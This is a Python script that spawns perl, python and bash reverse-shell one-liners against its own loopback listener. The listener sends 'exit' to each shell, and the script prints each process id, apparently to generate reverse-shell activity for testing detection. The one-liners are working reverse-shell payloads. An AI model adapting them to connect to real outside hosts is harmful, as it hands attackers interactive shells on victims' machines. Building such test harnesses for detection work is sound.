#!/usr/bin/env python3
"""Reverse shells to a listener of its own on the loopback interface: reverse_shells.py TIMES. Prints a process id and a kind for each."""

import socket
import subprocess
import sys
import threading

SHELLS = {
    "perl": ["perl", "-e", 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
             'if(connect(S,sockaddr_in($ARGV[0],inet_aton("127.0.0.1")))){open(STDIN,">&S");open(STDOUT,">&S");'
             'open(STDERR,">&S");exec("/bin/sh -i");}', "PORT"],
    "python": ["/usr/bin/python3", "-c", 'import socket,os,sys;s=socket.socket();s.connect(("127.0.0.1",int(sys.argv[1])));'
               '[os.dup2(s.fileno(),n) for n in (0,1,2)];os.execv("/bin/sh",["sh","-i"])', "PORT"],
    "bash": ["bash", "-c", 'exec bash --norc -i >& /dev/tcp/127.0.0.1/$0 0>&1', "PORT"],
}


def serve(connection):
    connection.sendall(b"exit\n")
    try:
        while connection.recv(4096): pass
    except OSError: pass
    connection.close()


def accept(listener):
    while True: threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()


def main():
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    port = str(listener.getsockname()[1])
    threading.Thread(target=accept, args=(listener,), daemon=True).start()
    for _ in range(int(sys.argv[1])):
        for kind, command in SHELLS.items():
            shell = subprocess.Popen([port if word == "PORT" else word for word in command], stdin=subprocess.DEVNULL,
                                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            print(shell.pid, kind, flush=True)
            shell.wait(20)


main()
